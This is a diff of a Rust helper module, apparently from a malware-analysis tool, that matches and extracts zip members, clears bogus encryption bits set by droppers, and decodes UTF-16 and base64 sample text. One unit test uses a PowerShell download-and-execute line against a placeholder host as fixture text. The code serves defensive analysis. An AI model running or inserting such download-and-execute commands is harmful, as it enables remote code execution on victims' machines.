@@ -1,12 +1,181 @@
-use std::io::{Cursor, Read};
+use std::{
+    collections::HashSet,
+    fmt::Display,
+    fs::File,
+    io::{Cursor, Read, Seek},
+    ops::Deref,
+    path::{Path, PathBuf},
+    sync::atomic::{AtomicU64, Ordering},
+};
 
-use anyhow::{Result, anyhow};
+use anyhow::{Context, Result, anyhow};
+use base64::{
+    Engine, alphabet,
+    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig, general_purpose::PAD},
+};
+use memmap2::Mmap;
+use tracing::debug;
 use zip::ZipArchive;
 
+use crate::archive::{EncryptedMember, is_member, load_member};
+
+/// How the names of the members of a zip archive are matched, see [`match_zip_member`]
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum NameMatch {
+    /// The name as it is stored in the archive
+    Exact,
+
+    /// The name ignoring case, `\` and `/` are the same separator
+    CaseInsensitive,
+
+    /// A glob pattern, e.g. `lib/*/libnative.so`, that matches the whole name or its last path
+    /// components, so `base.apk` matches `assets/base.apk` as well. Case is ignored and `\` and
+    /// `/` are the same separator.
+    Glob,
+}
+
+impl Display for NameMatch {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            NameMatch::Exact => write!(f, "exact"),
+            NameMatch::CaseInsensitive => write!(f, "case-insensitive"),
+            NameMatch::Glob => write!(f, "glob"),
+        }
+    }
+}
+
+/// Order in which [`NameMatch`] modes are tried if the name isn't known exactly
+pub const NAME_MATCH_FALLBACK: [NameMatch; 3] = [
+    NameMatch::Exact,
+    NameMatch::CaseInsensitive,
+    NameMatch::Glob,
+];
+
+/// More than one member of a zip archive matches a name
+#[derive(Debug)]
+pub struct AmbiguousMatch {
+    pub pattern: String,
+    pub mode: NameMatch,
+
+    /// Names of the matching members, sorted
+    pub candidates: Vec<String>,
+}
+
+impl Display for AmbiguousMatch {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "'{}' matches {} members of the zip archive ({}): {}",
+            self.pattern,
+            self.candidates.len(),
+            self.mode,
+            self.candidates.join(", ")
+        )
+    }
+}
+
+impl std::error::Error for AmbiguousMatch {}
+
+/// Name of the member of `archive` that `pattern` matches. The `modes` are tried in order, the
+/// first one with a match wins. Fails with [`AmbiguousMatch`] if a mode matches more than one
+/// member, instead of picking one of them.
+pub fn match_zip_member<R: Read + Seek>(
+    archive: &ZipArchive<R>,
+    pattern: &str,
+    modes: &[NameMatch],
+) -> Result<String> {
+    let normalize = |name: &str| name.replace('\\', "/");
+
+    for &mode in modes {
+        let mut candidates: Vec<String> = match mode {
+            NameMatch::Exact => archive
+                .index_for_name(pattern)
+                .map(|_| pattern.to_string())
+                .into_iter()
+                .collect(),
+            NameMatch::CaseInsensitive => {
+                let pattern = normalize(pattern).to_lowercase();
+                archive
+                    .file_names()
+                    .filter(|name| normalize(name).to_lowercase() == pattern)
+                    .map(str::to_string)
+                    .collect()
+            }
+            NameMatch::Glob => {
+                let glob = glob::Pattern::new(&normalize(pattern))
+                    .map_err(|e| anyhow!("Invalid pattern '{pattern}': {e}"))?;
+                let options = glob::MatchOptions {
+                    case_sensitive: false,
+                    require_literal_separator: true,
+                    ..Default::default()
+                };
+
+                archive
+                    .file_names()
+                    .filter(|name| {
+                        let name = normalize(name);
+                        std::iter::once(name.as_str())
+                            .chain(name.match_indices('/').map(|(i, _)| &name[i + 1..]))
+                            .any(|suffix| glob.matches_with(suffix, options))
+                    })
+                    .map(str::to_string)
+                    .collect()
+            }
+        };
+
+        match candidates.len() {
+            0 => continue,
+            1 => return Ok(candidates.remove(0)),
+            _ => {
+                candidates.sort();
+                return Err(AmbiguousMatch {
+                    pattern: pattern.to_string(),
+                    mode,
+                    candidates,
+                }
+                .into());
+            }
+        }
+    }
+
+    Err(anyhow!("No member of the zip archive matches '{pattern}'"))
+}
+
+/// Extracts the member `sample_filename` from `archive`, see [`extract_matching_from_zip`]
 pub fn extract_from_zip(
     archive: &mut ZipArchive<Cursor<&[u8]>>,
     sample_filename: &str,
     try_with_removed_encryption_bits: bool,
+) -> Result<Vec<u8>> {
+    extract_matching_from_zip(
+        archive,
+        sample_filename,
+        &[NameMatch::Exact],
+        try_with_removed_encryption_bits,
+    )
+    .map(|(_, data)| data)
+}
+
+/// Extracts the member of `archive` that `pattern` matches (see [`match_zip_member`]). Returns the
+/// name of the member as it is stored in the archive and its content. Members that can't be
+/// extracted are extracted again with the encryption bits removed if
+/// `try_with_removed_encryption_bits` is set.
+pub fn extract_matching_from_zip(
+    archive: &mut ZipArchive<Cursor<&[u8]>>,
+    pattern: &str,
+    modes: &[NameMatch],
+    try_with_removed_encryption_bits: bool,
+) -> Result<(String, Vec<u8>)> {
+    let sample_filename = match_zip_member(archive, pattern, modes)?;
+    let data = extract_member(archive, &sample_filename, try_with_removed_encryption_bits)?;
+
+    Ok((sample_filename, data))
+}
+
+fn extract_member(
+    archive: &mut ZipArchive<Cursor<&[u8]>>,
+    sample_filename: &str,
+    try_with_removed_encryption_bits: bool,
 ) -> Result<Vec<u8>> {
     // try to extract file from zip the normal way
     if let Ok(mut zipfile) = archive.by_name(sample_filename) {
@@ -15,47 +184,662 @@ pub fn extract_from_zip(
         return Ok(buff);
     }
 
+    // get inner data of archive
+    let sample_data = archive.clone().into_inner().into_inner();
+
+    // check if the entry can be extracted at all
+    if let Ok(ziparchive) = macon_zip::types::ZipArchive::try_from(sample_data)
+        && let Some(cdh) = ziparchive
+            .central_directory_headers
+            .iter()
+            .find(|cdh| cdh.effective_name() == sample_filename)
+        && !cdh.compression_method.is_supported()
+    {
+        return Err(anyhow!(
+            "Unsupported compression method {} in entry '{sample_filename}'",
+            cdh.compression_method
+        ));
+    }
+
     if !try_with_removed_encryption_bits {
         return Err(anyhow!(
             "Falid to extract file '{sample_filename}' from zip archive"
         ));
     }
 
-    // get inner data of archive and remove encryption bits from every file in archive
-    let sample_data = archive.clone().into_inner().into_inner();
-    let sample_data = macon_zip::try_remove_encryption_bits(sample_data)?;
+    // remove encryption bits from every file in archive and try to extract file again
+    let (fixed_data, fixed_entries) = macon_zip::try_remove_encryption_bits(sample_data)?;
+    if fixed_entries > 0 {
+        debug!(
+            member = sample_filename,
+            "Removed the encryption bit of {fixed_entries} entries"
+        );
+        if let Ok(buff) = read_from_zip(&fixed_data, sample_filename) {
+            return Ok(buff);
+        }
+    }
 
-    // create new archive
-    let cursor = Cursor::new(sample_data);
-    let mut archive = ZipArchive::new(cursor)?;
+    // some droppers additionally set the data descriptor bit without writing data descriptors
+    let fixed_data = macon_zip::modify_flags_bytes(
+        sample_data,
+        macon_zip::ENCRYPTION_BIT | macon_zip::DATA_DESCRIPTOR_BIT,
+        0,
+    )?;
+    read_from_zip(&fixed_data, sample_filename).with_context(|| {
+        format!(
+            "Falid to extract file '{sample_filename}' from zip archive after clearing encryption and data descriptor bits"
+        )
+    })
+}
 
-    // try to extract file again
+fn read_from_zip(data: &[u8], sample_filename: &str) -> Result<Vec<u8>> {
+    let mut archive = ZipArchive::new(Cursor::new(data))?;
     let mut zipfile = archive.by_name(sample_filename)?;
+
     let mut buff = Vec::with_capacity(zipfile.size() as usize);
     zipfile.read_to_end(&mut buff)?;
 
     Ok(buff)
 }
 
+/// Decodes the text of a sample. A byte order mark for UTF-8, UTF-16LE or UTF-16BE is honored
+/// and removed. Without one, the text is UTF-16 if almost every second byte is null (see
+/// [`utf16_byte_order`]) and UTF-8 otherwise. Invalid sequences are replaced with U+FFFD, as is
+/// the last byte of UTF-16 text with an odd length.
 pub fn get_string_from_binary(sample_data: &[u8]) -> String {
-    // count number of null bytes in odd positions
-    let count = sample_data
-        .iter()
-        .enumerate()
-        .filter(|(i, e)| *i % 2 == 1 && **e == 0)
-        .count();
-    // if more than 98% percent of odd bytes are null it is probably utf16
-    let is_utf16 = (2 * count) as f32 / sample_data.len() as f32 > 0.98;
-
-    // get sample data as string based on utf-8 oder utf-16
-    match is_utf16 {
-        false => String::from_utf8_lossy(sample_data).to_string(),
-        true => {
-            let tmp: Vec<u16> = (0..sample_data.len() / 2)
-                .map(|i| u16::from_le_bytes([sample_data[2 * i], sample_data[2 * i + 1]]))
-                .collect();
-
-            String::from_utf16_lossy(&tmp)
+    if let Some(text) = sample_data.strip_prefix(&[0xEF, 0xBB, 0xBF]) {
+        return String::from_utf8_lossy(text).to_string();
+    }
+    if let Some(text) = sample_data.strip_prefix(&[0xFF, 0xFE]) {
+        return decode_utf16(text, u16::from_le_bytes);
+    }
+    if let Some(text) = sample_data.strip_prefix(&[0xFE, 0xFF]) {
+        return decode_utf16(text, u16::from_be_bytes);
+    }
+
+    match utf16_byte_order(sample_data) {
+        Some(ByteOrder::LittleEndian) => decode_utf16(sample_data, u16::from_le_bytes),
+        Some(ByteOrder::BigEndian) => decode_utf16(sample_data, u16::from_be_bytes),
+        None => String::from_utf8_lossy(sample_data).to_string(),
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum ByteOrder {
+    LittleEndian,
+    BigEndian,
+}
+
+/// Byte order of UTF-16 text without a byte order mark. Text that is mostly ASCII has a null byte
+/// in every code unit, at the odd positions for little endian and at the even positions for big
+/// endian. A few code units without a null byte are tolerated (at least one, so short scripts with
+/// a single non-ASCII character are detected), but the other positions must be mostly non-null,
+/// so binary data full of nulls isn't taken for text.
+fn utf16_byte_order(sample_data: &[u8]) -> Option<ByteOrder> {
+    let units = sample_data.len() / 2;
+    if units < 2 {
+        return None;
+    }
+
+    let (even_nulls, odd_nulls) = sample_data
+        .chunks_exact(2)
+        .fold((0, 0), |(even, odd), unit| {
+            (
+                even + (unit[0] == 0) as usize,
+                odd + (unit[1] == 0) as usize,
+            )
+        });
+
+    let required = units - (units / 50).max(1);
+    let tolerated = units / 2;
+
+    if odd_nulls >= required && even_nulls < tolerated {
+        Some(ByteOrder::LittleEndian)
+    } else if even_nulls >= required && odd_nulls < tolerated {
+        Some(ByteOrder::BigEndian)
+    } else {
+        None
+    }
+}
+
+fn decode_utf16(text: &[u8], from_bytes: fn([u8; 2]) -> u16) -> String {
+    let units: Vec<u16> = text
+        .chunks_exact(2)
+        .map(|unit| from_bytes([unit[0], unit[1]]))
+        .collect();
+
+    let mut decoded = String::from_utf16_lossy(&units);
+    if text.len() % 2 == 1 {
+        decoded.push(char::REPLACEMENT_CHARACTER);
+    }
+    decoded
+}
+
+/// Tolerances for [`decode_base64_lenient`]
+#[derive(Debug, Clone, Copy)]
+pub struct Base64Tolerance {
+    /// Ignore ASCII whitespace (e.g. line breaks) inside the encoded data
+    pub strip_whitespace: bool,
+
+    /// Fall back to the URL-safe alphabet if the standard alphabet fails
+    pub url_safe: bool,
+
+    /// Accept data with missing or superfluous padding
+    pub indifferent_padding: bool,
+}
+
+impl Default for Base64Tolerance {
+    fn default() -> Self {
+        Self {
+            strip_whitespace: true,
+            url_safe: true,
+            indifferent_padding: true,
         }
     }
 }
+
+/// Decodes base64 data that may be slightly malformed. The standard alphabet is tried first, so
+/// well-formed data is decoded exactly as with a strict decoder.
+pub fn decode_base64_lenient(
+    data: impl AsRef<[u8]>,
+    tolerance: Base64Tolerance,
+) -> Result<Vec<u8>> {
+    let data = data.as_ref();
+
+    let data: Vec<u8> = if tolerance.strip_whitespace {
+        data.iter()
+            .copied()
+            .filter(|b| !b.is_ascii_whitespace())
+            .collect()
+    } else {
+        data.to_vec()
+    };
+
+    let config = if tolerance.indifferent_padding {
+        PAD.with_decode_padding_mode(DecodePaddingMode::Indifferent)
+    } else {
+        GeneralPurposeConfig::new()
+    };
+
+    let mut alphabets = vec![&alphabet::STANDARD];
+    if tolerance.url_safe {
+        alphabets.push(&alphabet::URL_SAFE);
+    }
+
+    let mut first_error = None;
+    for alphabet in alphabets {
+        match GeneralPurpose::new(alphabet, config).decode(&data) {
+            Ok(decoded) => return Ok(decoded),
+            Err(e) => {
+                first_error.get_or_insert(e);
+            }
+        }
+    }
+
+    Err(anyhow!(
+        "Failed to decode base64 data: {}",
+        first_error.expect("at least one alphabet is tried")
+    ))
+}
+
+/// Files of `paths` in their order, with directories replaced by the files in them. Directories
+/// are walked recursively up to `max_depth` levels below them and their entries are sorted by
+/// name. Hidden files and directories are skipped, symbolic links to directories are only
+/// followed with `follow_symlinks`, and each directory is walked at most once.
+pub fn collect_files(
+    paths: &[PathBuf],
+    max_depth: Option<usize>,
+    follow_symlinks: bool,
+) -> Result<Vec<PathBuf>> {
+    let mut files = vec![];
+    let mut walked = HashSet::new();
+
+    for path in paths {
+        if path.is_dir() {
+            walk_dir(path, 0, max_depth, follow_symlinks, &mut walked, &mut files)?;
+        } else {
+            files.push(path.clone());
+        }
+    }
+
+    Ok(files)
+}
+
+fn walk_dir(
+    dir: &Path,
+    depth: usize,
+    max_depth: Option<usize>,
+    follow_symlinks: bool,
+    walked: &mut HashSet<PathBuf>,
+    files: &mut Vec<PathBuf>,
+) -> Result<()> {
+    let canonical = dir
+        .canonicalize()
+        .with_context(|| format!("Directory {} can't be resolved", dir.display()))?;
+    if !walked.insert(canonical) {
+        return Ok(());
+    }
+
+    let mut entries = std::fs::read_dir(dir)
+        .with_context(|| format!("Directory {} can't be read", dir.display()))?
+        .collect::<std::io::Result<Vec<_>>>()?;
+    entries.sort_by_key(|entry| entry.file_name());
+
+    for entry in entries {
+        if entry.file_name().to_string_lossy().starts_with('.') {
+            continue;
+        }
+
+        let path = entry.path();
+        let is_symlink = entry.file_type()?.is_symlink();
+
+        if path.is_dir() {
+            let too_deep = max_depth.is_some_and(|max_depth| depth >= max_depth);
+            if too_deep || (is_symlink && !follow_symlinks) {
+                continue;
+            }
+            walk_dir(&path, depth + 1, max_depth, follow_symlinks, walked, files)?;
+        } else if path.is_file() {
+            files.push(path);
+        }
+    }
+
+    Ok(())
+}
+
+/// Samples larger than this are memory-mapped instead of being read into memory
+const MMAP_THRESHOLD: u64 = 64 * 1024 * 1024;
+
+/// Default of `--max-file-size`
+pub const DEFAULT_MAX_FILE_SIZE: u64 = 2 * 1024 * 1024 * 1024;
+
+static MAX_FILE_SIZE: AtomicU64 = AtomicU64::new(DEFAULT_MAX_FILE_SIZE);
+
+/// Sets the size in bytes above which [`load_sample`] skips samples
+pub fn set_max_file_size(max_file_size: u64) {
+    MAX_FILE_SIZE.store(max_file_size, Ordering::Relaxed);
+}
+
+/// Size in bytes above which [`load_sample`] skips samples
+pub fn max_file_size() -> u64 {
+    MAX_FILE_SIZE.load(Ordering::Relaxed)
+}
+
+/// Content of a sample, see [`load_sample`]
+pub enum SampleData {
+    Read(Vec<u8>),
+    Mapped(Mmap),
+}
+
+impl Deref for SampleData {
+    type Target = [u8];
+
+    fn deref(&self) -> &[u8] {
+        match self {
+            SampleData::Read(data) => data,
+            SampleData::Mapped(mmap) => mmap,
+        }
+    }
+}
+
+/// Sample as it is named in messages and reports. The path is displayed as is instead of being
+/// quoted and escaped, and the relative form is the path below the directory it was found in,
+/// with `/` as separator, so reports can be compared between machines.
+#[derive(Debug, Clone)]
+pub struct SampleRef {
+    path: PathBuf,
+    display: String,
+    relative: Option<String>,
+}
+
+impl SampleRef {
+    /// Sample at `path`, which is relative to the first of the directories in `roots` it is in
+    pub fn new(path: &Path, roots: &[PathBuf]) -> Self {
+        let relative = roots
+            .iter()
+            .find_map(|root| path.strip_prefix(root).ok())
+            .filter(|relative| !relative.as_os_str().is_empty())
+            .map(|relative| {
+                let components: Vec<_> = relative
+                    .components()
+                    .map(|c| c.as_os_str().to_string_lossy())
+                    .collect();
+                components.join("/")
+            });
+
+        Self {
+            path: path.to_path_buf(),
+            display: path.display().to_string(),
+            relative,
+        }
+    }
+
+    pub fn path(&self) -> &Path {
+        &self.path
+    }
+
+    /// Path below the directory the sample was found in, the whole path for samples that were
+    /// given directly
+    pub fn relative(&self) -> &str {
+        self.relative.as_deref().unwrap_or(&self.display)
+    }
+}
+
+impl Display for SampleRef {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}", self.display)
+    }
+}
+
+/// Error of [`load_sample`] for samples above the maximum file size. The sample should be skipped
+/// with a warning instead of being reported as failed.
+#[derive(Debug)]
+pub struct FileTooLarge {
+    pub path: PathBuf,
+
+    /// Size of the sample. Of a tar.gz archive, it is the number of bytes that were decompressed
+    /// until the maximum was exceeded.
+    pub size: u64,
+    pub max_file_size: u64,
+}
+
+impl Display for FileTooLarge {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "Skipping {}, it has {} bytes, more than the maximum of {} bytes (--max-file-size)",
+            self.path.display(),
+            self.size,
+            self.max_file_size
+        )
+    }
+}
+
+impl std::error::Error for FileTooLarge {}
+
+/// Whether the sample of `error` of [`load_sample`] should be skipped with a warning instead of
+/// being reported as failed, see [`FileTooLarge`] and [`EncryptedMember`]
+pub fn is_skipped(error: &anyhow::Error) -> bool {
+    error.is::<FileTooLarge>() || error.is::<EncryptedMember>()
+}
+
+/// Loads the sample at `path`, which may be the member of an archive (see [`crate::archive`]).
+/// Samples larger than [`MMAP_THRESHOLD`] are memory-mapped, so their content isn't copied into
+/// the memory of every worker, and read if mapping them fails. Fails with [`FileTooLarge`] for
+/// samples above the size set with [`set_max_file_size`].
+pub fn load_sample(path: &Path) -> Result<SampleData> {
+    if is_member(path) {
+        return load_member(path);
+    }
+
+    let mut file = File::open(path)?;
+    let size = file.metadata()?.len();
+
+    let max_file_size = max_file_size();
+    if size > max_file_size {
+        return Err(FileTooLarge {
+            path: path.to_path_buf(),
+            size,
+            max_file_size,
+        }
+        .into());
+    }
+
+    if size > MMAP_THRESHOLD {
+        // SAFETY: the samples are not modified while they are analyzed. If one is truncated
+        // anyway, reading it fails with SIGBUS, which is not worse than the OOM kill the mapping
+        // prevents.
+        match unsafe { Mmap::map(&file) } {
+            Ok(mmap) => return Ok(SampleData::Mapped(mmap)),
+            Err(e) => {
+                debug!(sample = %path.display(), "Mapping the sample failed, reading it: {e}")
+            }
+        }
+    }
+
+    let mut data = Vec::with_capacity(size as usize);
+    file.read_to_end(&mut data)?;
+    Ok(SampleData::Read(data))
+}
+
+/// Reads at most `size` bytes from the start of the sample at `path`, see [`load_sample`]. Returns
+/// whether the sample is longer than that.
+pub fn read_prefix(path: &Path, size: usize) -> Result<(Vec<u8>, bool)> {
+    let mut data = match is_member(path) {
+        // members are in memory already
+        true => load_member(path)?[..].to_vec(),
+        false => {
+            let mut data = Vec::with_capacity(size + 1);
+            File::open(path)?
+                .take(size as u64 + 1)
+                .read_to_end(&mut data)?;
+            data
+        }
+    };
+
+    let truncated = data.len() > size;
+    data.truncate(size);
+    Ok((data, truncated))
+}
+
+/// Parses a size like `512`, `64K`, `100M` or `2G`. The suffixes are powers of 1024.
+pub fn parse_size(size: &str) -> Result<u64> {
+    let size = size.trim();
+    let (number, factor) = match size.char_indices().last() {
+        Some((i, 'k' | 'K')) => (&size[..i], 1 << 10),
+        Some((i, 'm' | 'M')) => (&size[..i], 1 << 20),
+        Some((i, 'g' | 'G')) => (&size[..i], 1 << 30),
+        Some((i, 't' | 'T')) => (&size[..i], 1 << 40),
+        _ => (size, 1),
+    };
+
+    let number: u64 = number
+        .parse()
+        .map_err(|_| anyhow!("Invalid size '{size}', expected e.g. 512, 64K, 100M or 2G"))?;
+    number
+        .checked_mul(factor)
+        .ok_or_else(|| anyhow!("Size '{size}' is too large"))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Write;
+
+    use zip::{ZipWriter, write::SimpleFileOptions};
+
+    use super::*;
+
+    #[test]
+    fn sample_ref_is_relative_to_its_root() {
+        let roots = [PathBuf::from("/data/corpus"), PathBuf::from("/data")];
+        let sample = SampleRef::new(Path::new("/data/corpus/coper/a b.apk"), &roots);
+
+        assert_eq!(sample.relative(), "coper/a b.apk");
+        assert_eq!(sample.to_string(), "/data/corpus/coper/a b.apk");
+        assert_eq!(sample.path(), Path::new("/data/corpus/coper/a b.apk"));
+
+        // the first root the sample is in is used
+        let sample = SampleRef::new(Path::new("/data/other/x.bat"), &roots);
+        assert_eq!(sample.relative(), "other/x.bat");
+    }
+
+    #[test]
+    fn sample_ref_without_root() {
+        let roots = [PathBuf::from("/data/corpus")];
+
+        // samples that were given directly are named by their whole path
+        let sample = SampleRef::new(Path::new("samples/x.bat"), &roots);
+        assert_eq!(sample.relative(), "samples/x.bat");
+
+        let sample = SampleRef::new(Path::new("/data/corpus"), &roots);
+        assert_eq!(sample.relative(), "/data/corpus");
+    }
+
+    #[test]
+    fn sample_ref_is_not_quoted() {
+        let sample = SampleRef::new(Path::new("dir/it's \"quoted\".ps1"), &[]);
+        assert_eq!(sample.to_string(), "dir/it's \"quoted\".ps1");
+        assert_eq!(format!("{sample}"), sample.relative());
+    }
+
+    #[test]
+    fn sample_ref_of_archive_members() {
+        let roots = [PathBuf::from("/data")];
+        let member = PathBuf::from("/data/corpus.zip::dir/sample.bat");
+        let sample = SampleRef::new(&member, &roots);
+
+        assert_eq!(sample.relative(), "corpus.zip::dir/sample.bat");
+    }
+
+    /// Archive with members that differ only in case and directory
+    fn apk_archive() -> Vec<u8> {
+        let mut zip = ZipWriter::new(Cursor::new(vec![]));
+        for (name, data) in [("Base.APK", b"upper"), ("assets/base.apk", b"lower")] {
+            zip.start_file(name, SimpleFileOptions::default()).unwrap();
+            zip.write_all(data).unwrap();
+        }
+        zip.finish().unwrap().into_inner()
+    }
+
+    #[test]
+    fn zip_members_by_mode() -> Result<()> {
+        let data = apk_archive();
+        let archive = ZipArchive::new(Cursor::new(&data[..]))?;
+        let matched = |pattern, mode| match_zip_member(&archive, pattern, &[mode]);
+
+        assert_eq!(matched("Base.APK", NameMatch::Exact)?, "Base.APK");
+        assert!(matched("base.apk", NameMatch::Exact).is_err());
+
+        assert_eq!(matched("base.apk", NameMatch::CaseInsensitive)?, "Base.APK");
+        assert_eq!(
+            matched("ASSETS\\BASE.APK", NameMatch::CaseInsensitive)?,
+            "assets/base.apk"
+        );
+
+        // the suffix `base.apk` of `assets/base.apk`
+        assert_eq!(matched("assets/*.apk", NameMatch::Glob)?, "assets/base.apk");
+        assert_eq!(
+            matched("ASSETS\\*.APK", NameMatch::Glob)?,
+            "assets/base.apk"
+        );
+        assert!(matched("*.dex", NameMatch::Glob).is_err());
+
+        // the first mode with a match wins
+        assert_eq!(
+            match_zip_member(&archive, "base.apk", &NAME_MATCH_FALLBACK)?,
+            "Base.APK"
+        );
+
+        Ok(())
+    }
+
+    #[test]
+    fn ambiguous_zip_members() -> Result<()> {
+        let data = apk_archive();
+        let archive = ZipArchive::new(Cursor::new(&data[..]))?;
+
+        let e = match_zip_member(&archive, "base.apk", &[NameMatch::Glob]).unwrap_err();
+        let ambiguous = e.downcast_ref::<AmbiguousMatch>().expect("ambiguous match");
+        assert_eq!(ambiguous.mode, NameMatch::Glob);
+        assert_eq!(ambiguous.candidates, ["Base.APK", "assets/base.apk"]);
+        assert_eq!(
+            e.to_string(),
+            "'base.apk' matches 2 members of the zip archive (glob): Base.APK, assets/base.apk"
+        );
+
+        Ok(())
+    }
+
+    #[test]
+    fn matched_zip_members_with_encryption_bits() -> Result<()> {
+        let data = macon_zip::modify_flags_bytes(&apk_archive(), 0, macon_zip::ENCRYPTION_BIT)?;
+
+        for (pattern, mode, name, content) in [
+            ("Base.APK", NameMatch::Exact, "Base.APK", &b"upper"[..]),
+            ("base.apk", NameMatch::CaseInsensitive, "Base.APK", b"upper"),
+            ("*/base.apk", NameMatch::Glob, "assets/base.apk", b"lower"),
+        ] {
+            let mut archive = ZipArchive::new(Cursor::new(&data[..]))?;
+            assert!(extract_matching_from_zip(&mut archive, pattern, &[mode], false).is_err());
+
+            let extracted = extract_matching_from_zip(&mut archive, pattern, &[mode], true)?;
+            assert_eq!(extracted, (name.to_string(), content.to_vec()), "{mode}");
+        }
+
+        Ok(())
+    }
+
+    fn utf16le(text: &str) -> Vec<u8> {
+        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
+    }
+
+    fn utf16be(text: &str) -> Vec<u8> {
+        text.encode_utf16().flat_map(u16::to_be_bytes).collect()
+    }
+
+    #[test]
+    fn strings_of_all_encodings() {
+        let script = "iex (New-Object Net.WebClient).DownloadString('http://x.example/é')";
+        let with_bom = |bom: &[u8], text: Vec<u8>| [bom, &text].concat();
+
+        let cases: [(&str, Vec<u8>, &str); 10] = [
+            ("utf-8", script.as_bytes().to_vec(), script),
+            (
+                "utf-8 bom",
+                with_bom(&[0xEF, 0xBB, 0xBF], script.into()),
+                script,
+            ),
+            ("utf-16le", utf16le(script), script),
+            (
+                "utf-16le bom",
+                with_bom(&[0xFF, 0xFE], utf16le(script)),
+                script,
+            ),
+            ("utf-16be", utf16be(script), script),
+            (
+                "utf-16be bom",
+                with_bom(&[0xFE, 0xFF], utf16be(script)),
+                script,
+            ),
+            // a short stub with a non-ASCII character doesn't reach a fixed ratio of nulls
+            ("short utf-16le", utf16le("ls é"), "ls é"),
+            ("short utf-16be", utf16be("ls é"), "ls é"),
+            // the last byte of odd lengths isn't dropped silently
+            (
+                "odd utf-16le",
+                [utf16le("dir"), vec![b'x']].concat(),
+                "dir\u{FFFD}",
+            ),
+            (
+                "odd utf-16le bom",
+                with_bom(&[0xFF, 0xFE], [utf16le("d"), vec![0]].concat()),
+                "d\u{FFFD}",
+            ),
+        ];
+
+        for (name, data, expected) in cases {
+            assert_eq!(get_string_from_binary(&data), expected, "{name}");
+        }
+    }
+
+    #[test]
+    fn strings_of_tiny_and_binary_inputs() {
+        assert_eq!(get_string_from_binary(b""), "");
+        assert_eq!(get_string_from_binary(b"a"), "a");
+        // a single code unit is too short to tell the encoding
+        assert_eq!(get_string_from_binary(b"a\0"), "a\0");
+        assert_eq!(get_string_from_binary(&[0xFF, 0xFE]), "");
+
+        // nulls everywhere are binary data, not UTF-16
+        assert_eq!(utf16_byte_order(&[0; 64]), None);
+        assert_eq!(
+            utf16_byte_order(&utf16le("@echo off")),
+            Some(ByteOrder::LittleEndian)
+        );
+        assert_eq!(
+            utf16_byte_order(&utf16be("@echo off")),
+            Some(ByteOrder::BigEndian)
+        );
+        assert_eq!(utf16_byte_order(b"@echo off"), None);
+    }
+}